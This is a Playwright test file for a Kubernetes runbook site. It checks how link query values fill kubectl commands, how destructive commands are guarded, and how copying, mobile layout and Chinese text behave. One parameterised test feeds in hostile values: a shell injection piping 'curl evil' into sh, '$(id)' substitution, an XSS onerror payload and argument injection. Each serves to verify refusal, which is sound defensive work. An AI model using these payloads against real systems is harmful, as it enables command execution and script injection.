// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell text.

import { networkInterfaces } from 'node:os';
import type { Locator, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { pasted } from './clipboard';
import { SITE, useBrowser } from './session';

const RUNBOOK = '/runbooks/image-pull-backoff/';
const LINK = `${RUNBOOK}?namespace=payments&pod=api-7d9f&x=%24(id)`;
const TOUCH = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };

async function copied(page: Page, block: Locator): Promise<string> {
  await block.getByRole('button', { name: /^(Copy:|复制：)/ }).click();
  return pasted(page);
}

const risky = (page: Page, risk: string): Locator => page.locator(`figure[data-risk="${risk}"]`).first();
const panel = (page: Page): Locator => page.locator('section[data-open]');

describe('the values of a link', () => {
  const browser = useBrowser();

  it('fill the commands of the page, with their origin, and are copied as they are seen', async () => {
    const page = await browser.open(LINK);
    const block = page.locator('figure[data-block="bash"]', { hasText: 'api-7d9f' }).first();
    await block.waitFor();
    expect(await panel(page).textContent()).toMatch(/Namespace payments from the link.*Pod api-7d9f from the link/s);
    const shown = await block.locator('code').first().textContent();
    const text = await copied(page, block);
    expect(text).toBe(shown);
    expect(text).toMatch(/^kubectl -n payments get pod api-7d9f -o jsonpath=/);
    expect(text).not.toMatch(/\n$/);
    expect(await block.getByRole('status').first().textContent()).toBe('Copied');
    await page.context().close();
  });

  it.each([
    'pod=api;curl evil|sh',
    'pod=%24(id)',
    'pod=<img src=x onerror="window.evil=1">',
    'pod=--all',
    'pod=x%0Ay',
    'pod=api%E2%80%AEgnp',
  ])('are refused with the reason beside the field where they are hostile: %s', async (query) => {
    const page = await browser.open(`${RUNBOOK}?namespace=payments&${query}`);
    await panel(page).getByText('payments').first().waitFor();
    await page.getByRole('button', { name: 'Set values' }).click();
    const field = page.locator('#value-POD');
    expect(await field.inputValue()).toBe('');
    expect(await field.getAttribute('aria-invalid')).toBe('true');
    expect(await page.locator('#value-POD-note').textContent()).toMatch(/^The link’s value was refused: /);
    expect(await page.locator('figure code', { hasText: /evil|\(id\)|onerror/ }).count()).toBe(0);
    expect(await page.evaluate('window.evil')).toBeUndefined();
    await page.context().close();
  });

  it('that fill nothing are listed with the reason', async () => {
    const page = await browser.open(LINK);
    await page.getByRole('button', { name: 'Set values' }).click();
    const ignored = page.locator('details', { hasText: 'Labels of the link that fill nothing' });
    await ignored.locator('summary').click();
    expect(await ignored.locator('li').allTextContents()).toEqual(['x No command of this site uses this label.']);
    await page.context().close();
  });

  it('are cleared with one click, here and in the address', async () => {
    const page = await browser.open(`${LINK}#triage`);
    await page.getByRole('button', { name: 'Clear link values' }).click();
    await page.locator('figure code', { hasText: '"${NAMESPACE:?}"' }).first().waitFor();
    expect(page.url()).toBe(`${SITE}${RUNBOOK}#triage`);
    expect(await panel(page).textContent()).not.toContain('payments');
    await page.context().close();
  });

  it('stay in the tab: they are there on the next page, and in no other tab and no other storage', async () => {
    const page = await browser.open(LINK);
    await panel(page).getByText('payments').first().waitFor();
    await page.goto(`${SITE}/runbooks/crash-loop-backoff/`);
    await panel(page).getByText('payments').first().waitFor();
    expect(await page.evaluate('localStorage.length === 0 || !JSON.stringify(localStorage).includes("payments")')).toBe(
      true,
    );
    expect(await page.evaluate('document.cookie')).toBe('');
    const other = await page.context().newPage();
    await other.goto(`${SITE}/runbooks/crash-loop-backoff/`, { waitUntil: 'networkidle' });
    expect(await panel(other).textContent()).not.toContain('payments');
    await page.context().close();
  });

  it('give way to another link as a whole', async () => {
    const page = await browser.open(LINK);
    await panel(page).getByText('api-7d9f').first().waitFor();
    await page.goto(`${SITE}${RUNBOOK}?namespace=shop`);
    await panel(page).getByText('shop').first().waitFor();
    expect(await panel(page).textContent()).not.toContain('api-7d9f');
    await page.context().close();
  });

  it('keep to the labels that describe the fault of an alert', async () => {
    const page = await browser.open(
      '/runbooks/kubernetes/kubepodcrashlooping/?namespace=payments&pod=api-7d9f&instance=10.0.0.1:8080&job=kube-state-metrics',
    );
    await panel(page).getByText('payments').first().waitFor();
    await page.getByRole('button', { name: 'Set values' }).click();
    const ignored = page.locator('details', { hasText: 'fill nothing' });
    await ignored.locator('summary').click();
    expect(await ignored.locator('li').allTextContents()).toEqual([
      expect.stringMatching(/^instance For this alert/),
      expect.stringMatching(/^job “job” is the scrape job/),
    ]);
    await page.context().close();
  });
});

describe('a command without values', () => {
  const browser = useBrowser();

  it('that reads shows its variables and copies their guards', async () => {
    const page = await browser.open(RUNBOOK);
    const block = page.locator('figure[data-risk="reads"]', { hasText: '"${NAMESPACE:?}"' }).first();
    expect(await copied(page, block)).toMatch(/^kubectl -n "\$\{NAMESPACE:\?\}" get pod "\$\{POD:\?\}"/);
    expect(await block.getByRole('status').first().textContent()).toBe(
      'Copied. It stops with a message until Namespace, Pod is set.',
    );
    await page.context().close();
  });

  it('shows its guards, also without JavaScript, and where it only reads', async () => {
    const page = await browser.open(RUNBOOK, { javaScriptEnabled: false });
    expect(await risky(page, 'changes').locator('code').first().textContent()).toContain(':?}');
    expect(
      await page.locator('figure[data-risk="reads"] code', { hasText: '"${NAMESPACE:?}"' }).count(),
    ).toBeGreaterThan(0);
    expect(await page.locator('figure code', { hasText: '"$NAMESPACE"' }).count()).toBe(0);
    expect(await page.locator('main noscript').first().textContent()).toContain('NAMESPACE');
    await page.context().close();
  });

  it('takes what is typed, at once, and says why it refuses', async () => {
    const page = await browser.open(RUNBOOK);
    await page.getByRole('button', { name: 'Set values' }).click();
    await page.getByLabel('Namespace', { exact: true }).fill('payments');
    await page.locator('figure code', { hasText: 'kubectl -n payments' }).first().waitFor();
    await page.getByLabel('Namespace', { exact: true }).fill('Payments');
    expect(await page.locator('#value-NAMESPACE-note').textContent()).toMatch(/^Expected lower-case letters/);
    expect(await page.locator('figure code', { hasText: 'ayments' }).count()).toBe(0);
    await page.context().close();
  });
});

describe('a command that destroys', () => {
  const browser = useBrowser();

  it('is not copied until its values are set, and leads to the field', async () => {
    const page = await browser.open(RUNBOOK);
    const block = risky(page, 'destroys');
    // The button is there to say why it copies nothing; Playwright takes it for disabled.
    await block.getByRole('button', { name: /^Copy:/ }).click({ force: true });
    await page.locator('#value-NAMESPACE:focus').waitFor();
    expect(await block.getByRole('status').first().textContent()).toMatch(/^Set Namespace/);
    expect(await pasted(page)).toBe('');
    await page.context().close();
  });

  it('takes no value from the link until the reader has confirmed it', async () => {
    const page = await browser.open(LINK);
    const block = page
      .locator('figure[data-risk="destroys"]', { hasText: 'delete pod', hasNotText: 'STATEFULSET' })
      .first();
    const confirm = block.getByRole('button', { name: 'I have checked them, use them' });
    await confirm.waitFor();
    expect(await block.locator('code').first().textContent()).toContain('${NAMESPACE:?}');
    await confirm.click();
    expect(await copied(page, block)).toMatch(/kubectl -n payments delete pod api-7d9f/);
    await page.context().close();
  });

  it('says right under it how to undo it, or that nothing can', async () => {
    const page = await browser.open(RUNBOOK);
    for (const block of await page.locator('figure[data-risk="destroys"]').all()) {
      expect(await block.locator('p').last().textContent()).toMatch(/^(Undo|This cannot be undone\.)/);
    }
    await page.context().close();
  });
});

describe('copying', () => {
  const browser = useBrowser();

  it('takes one command of several', async () => {
    const page = await browser.open(LINK);
    const block = page
      .locator('figure[data-risk="reads"]', { has: page.getByRole('button', { name: /^Copy command 2:/ }) })
      .first();
    await block.getByRole('button', { name: /^Copy command 2:/ }).click();
    const text = await pasted(page);
    expect(text).not.toBe('');
    expect(await block.locator('[data-kind="command"]').nth(1).textContent()).toContain(text);
    await page.context().close();
  });

  it('works on a plain-http address that is not localhost', async () => {
    const address = Object.values(networkInterfaces())
      .flat()
      .find((one) => one?.family === 'IPv4' && !one.internal)?.address;
    if (address === undefined) throw new Error('This machine has no address but localhost.');
    const page = await browser.open(`${SITE.replace('localhost', address)}${LINK}`);
    expect(await page.evaluate('typeof navigator.clipboard')).toBe('undefined');
    const block = page.locator('figure[data-block="bash"]', { hasText: 'api-7d9f' }).first();
    await block.waitFor();
    expect(await copied(page, block)).toMatch(/^kubectl -n payments get pod api-7d9f/);
    await page.context().close();
  });

  it('has buttons that are seen on a touch screen, large enough, each with a name of its own', async () => {
    const page = await browser.open(RUNBOOK, TOUCH);
    const buttons = page.locator('figure').getByRole('button');
    const names = await buttons.evaluateAll((all) => all.map((button) => button.getAttribute('aria-label')));
    expect(names.length).toBeGreaterThan(5);
    for (const button of await buttons.all()) {
      const box = await button.boundingBox();
      expect(Math.min(box?.width ?? 0, box?.height ?? 0)).toBeGreaterThanOrEqual(24);
    }
    await page.context().close();
  });

  it('sends no highlighter and no shell parser to the browser', async () => {
    const page = await browser.open('about:blank');
    const scripts: string[] = [];
    page.on('response', async (response) => {
      if (response.url().endsWith('.js')) scripts.push(await response.text().catch(() => ''));
    });
    await page.goto(SITE + RUNBOOK, { waitUntil: 'networkidle' });
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((text) => /hljs\.|unterminated double quote|Prism\.languages/.test(text))).toEqual([]);
    await page.context().close();
  });
});

describe('on a phone', () => {
  const browser = useBrowser();

  it('the form comes up from the bottom, and Esc closes it', async () => {
    const page = await browser.open(LINK, TOUCH);
    await page.getByRole('button', { name: 'Set values' }).click();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
    const form = panel(page).locator('form');
    const box = await form.boundingBox();
    expect(Math.round((box?.y ?? 0) + (box?.height ?? 0))).toBe(844);
    await page.locator('#value-NAMESPACE').press('Escape');
    expect(await form.isVisible()).toBe(false);
    await page.context().close();
  });
});

describe('in Chinese', () => {
  const browser = useBrowser();

  it('the values are still there after the language was switched, and everything is said in Chinese', async () => {
    const page = await browser.open(LINK);
    await panel(page).getByText('payments').first().waitFor();
    await page.getByRole('link', { name: '简体中文' }).first().click();
    await page.waitForURL(/\/zh-Hans\//);
    await panel(page).getByText('来自链接').first().waitFor();
    const block = page.locator('figure[data-block="bash"]', { hasText: 'api-7d9f' }).first();
    expect(await copied(page, block)).toMatch(/^kubectl -n payments get pod api-7d9f/);
    expect(await block.getByRole('status').first().textContent()).toBe('已复制');
    await page.context().close();
  });
});
